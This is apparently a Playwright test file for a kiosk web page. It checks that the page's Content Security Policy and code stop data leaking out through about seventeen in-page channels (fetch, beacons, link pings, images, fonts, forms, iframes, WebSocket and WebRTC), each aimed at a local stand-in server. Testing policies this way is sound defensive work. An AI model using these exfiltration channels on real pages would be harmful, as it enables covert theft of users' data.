import type { Page } from '@playwright/test';
import { expect, test } from '../harness/kiosk.ts';
import { startOutsideServer, type OutsideServer } from '../harness/outside-server.ts';

/** Attacks from inside the page: ways to send something out, each with the directive that must refuse it. */
const attacks: Readonly<Record<string, readonly [directive: string, attack: (origin: string) => unknown]>> = {
  fetch: ['connect-src', (origin) => fetch(`${origin}/fetch`)],
  'fetch without CORS': [
    'connect-src',
    (origin) => fetch(`${origin}/no-cors`, { mode: 'no-cors', method: 'POST' }),
  ],
  XMLHttpRequest: [
    'connect-src',
    (origin) => {
      const request = new XMLHttpRequest();
      request.open('GET', `${origin}/xhr`);
      request.send();
    },
  ],
  WebSocket: ['connect-src', (origin) => new WebSocket(origin.replace('http', 'ws'))],
  EventSource: ['connect-src', (origin) => new EventSource(`${origin}/events`)],
  'a beacon': ['connect-src', (origin) => navigator.sendBeacon(`${origin}/beacon`, 'x')],
  'the ping of a link': [
    'connect-src',
    (origin) => {
      const link = document.createElement('a');
      link.href = '#here';
      link.ping = `${origin}/ping`;
      document.body.append(link);
      link.click();
    },
  ],
  'an image': ['img-src', (origin) => Object.assign(new Image(), { src: `${origin}/image` })],
  'a background image': [
    'img-src',
    (origin) => {
      document.body.style.backgroundImage = `url(${origin}/background)`;
      return document.body.offsetHeight;
    },
  ],
  'a font': ['font-src', (origin) => new FontFace('attack', `url(${origin}/font)`).load()],
  'a stylesheet': [
    'style-src-elem',
    (origin) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${origin}/style` }),
      ),
  ],
  'a video': [
    'media-src',
    (origin) =>
      document.body.append(
        Object.assign(document.createElement('video'), { src: `${origin}/video`, autoplay: true }),
      ),
  ],
  'a frame': [
    'frame-src',
    (origin) =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${origin}/frame` })),
  ],
  'a plug-in': [
    // Refused before its address is looked at: an address that runs code wants trusted text.
    'require-trusted-types-for',
    (origin) => {
      const plugin = document.createElement('object');
      Reflect.set(plugin, 'data', `${origin}/object`);
      document.body.append(plugin);
    },
  ],
  'a manifest': [
    'manifest-src',
    (origin) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'manifest', href: `${origin}/manifest` }),
      ),
  ],
  'a form': [
    'form-action',
    (origin) => {
      const form = Object.assign(document.createElement('form'), {
        action: `${origin}/form`,
        method: 'post',
      });
      document.body.append(form);
      form.submit();
    },
  ],
  'another base for addresses': [
    'base-uri',
    (origin) =>
      document.head.append(Object.assign(document.createElement('base'), { href: `${origin}/base/` })),
  ],
};

/** Chromium fetches a manifest only when a browser asks for it; nothing asks on a kiosk. */
const neverAsked = new Set(['a manifest']);

let outside: OutsideServer;
test.beforeAll(async () => {
  outside = await startOutsideServer();
});
test.afterAll(() => outside.close());

/** Runs an attack and answers the directives that refused something, as the page itself was told. */
function runAttack(page: Page, attack: (origin: string) => unknown, origin: string): Promise<string[]> {
  return page.evaluate(
    async ([source, target]) => {
      const run = window.eval(`(${source})`) as (origin: string) => unknown;
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
      await new Promise((resolve) => setTimeout(resolve));
      try {
        await run(target);
      } catch {
        // Refused aloud.
      }
      const deadline = performance.now() + 2_000;
      while (refused.length === 0 && performance.now() < deadline)
        await new Promise((resolve) => setTimeout(resolve, 10));
      return refused;
    },
    [attack.toString(), origin] as const,
  );
}

for (const [name, [directive, attack]] of Object.entries(attacks)) {
  if (neverAsked.has(name)) continue;
  test(`${name} reaches nobody`, async ({ kiosk }) => {
    expect(await runAttack(kiosk.page, attack, outside.origin)).toContain(directive);
    expect(await kiosk.page.evaluate(() => location.href.replace(/#.*/, ''))).toBe(kiosk.pageUrl);
    expect(outside.arrivals).toEqual([]);
    expect(kiosk.complaints()).toEqual([]);
  });
}

test('without the policy main itself still lets nothing out', async ({ kiosk }) => {
  const session = await kiosk.page.context().newCDPSession(kiosk.page);
  await session.send('Page.setBypassCSP', { enabled: true });
  await kiosk.page.reload();
  for (const [, attack] of Object.values(attacks)) {
    await kiosk.page.evaluate(
      ([source, target]) => {
        const run = window.eval(`(${source})`) as (origin: string) => unknown;
        void Promise.resolve(run(target)).catch(() => undefined);
      },
      [attack.toString(), outside.origin] as const,
    );
  }
  // Each attempt is over once the page answers again after a request of its own.
  const failed = await kiosk.page.evaluate(
    (target) =>
      fetch(`${target}/last`).then(
        () => false,
        () => true,
      ),
    outside.origin,
  );
  await session.send('Page.setBypassCSP', { enabled: false });
  await session.detach();
  expect(failed).toBe(true);
  expect(outside.arrivals).toEqual([]);
  // The stand-in would complain of anything that main let pass.
  expect(kiosk.complaints()).toEqual([]);
  expect(await kiosk.page.evaluate(() => location.href.replace(/#.*/, ''))).toBe(kiosk.pageUrl);
});

test('WebRTC finds no way out', async ({ kiosk }) => {
  const candidates = await kiosk.page.evaluate(async (host) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${host}` }] });
    connection.createDataChannel('attack');
    const found: string[] = [];
    const done = new Promise<void>((resolve) => {
      connection.addEventListener('icecandidate', ({ candidate }) => {
        if (candidate === null) resolve();
        else found.push(candidate.candidate);
      });
    });
    await connection.setLocalDescription();
    await done;
    return found;
  }, outside.host);
  expect(candidates.filter((candidate) => candidate !== '')).toEqual([]);
});

test('control: what does get out arrives', async () => {
  await fetch(`${outside.origin}/control`);
  expect(outside.arrivals).toContain('GET /control');
});
